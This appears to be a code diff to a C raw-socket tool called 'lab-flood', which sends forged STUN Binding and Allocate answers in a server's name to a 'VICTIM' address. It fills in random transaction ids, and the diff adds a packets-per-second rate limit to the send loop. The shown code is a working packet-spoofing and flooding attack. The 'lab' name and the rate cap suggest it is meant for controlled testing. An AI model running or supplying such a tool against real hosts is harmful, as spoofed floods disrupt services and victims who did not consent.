@@ -1,6 +1,6 @@
-/* Sends forged answers to Binding and Allocate, as fast as it goes, in the name of a server (IPv4):
+/* Sends forged answers to Binding and Allocate in the name of a server (IPv4), so many a second:
  *
- *     lab-flood SERVER PORT VICTIM PORT SECONDS
+ *     lab-flood SERVER PORT VICTIM PORT SECONDS RATE
  *
  * All is right in them but what somebody off the path can't know: the transaction id, and the
  * key. They name 198.18.0.66. Says how many it sent. */
@@ -15,6 +15,7 @@
 #include <sys/random.h>
 #include <sys/socket.h>
 #include <time.h>
+#include <unistd.h>
 
 #define BATCH 64
 #define STUN_SIZE 44
@@ -78,7 +79,7 @@ int main(int count, char **words)
     int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
     unsigned long sent = 0;
 
-    if (count != 6 || fd < 0) {
+    if (count != 7 || fd < 0) {
         perror("lab-flood");
         return 2;
     }
@@ -89,7 +90,12 @@ int main(int count, char **words)
         messages[i].msg_hdr = (struct msghdr){
             .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &pieces[i], .msg_iovlen = 1};
     }
-    for (double end = seconds() + atof(words[5]); seconds() < end;) {
+    double start = seconds();
+    for (double now = start; now - start < atof(words[5]); now = seconds()) {
+        if ((double)sent > (now - start) * atof(words[6])) {
+            (void)usleep(100);
+            continue;
+        }
         for (unsigned i = 0; i < BATCH; i++) {
             (void)!getrandom(packets[i].stun + 8, 12, 0);
         }
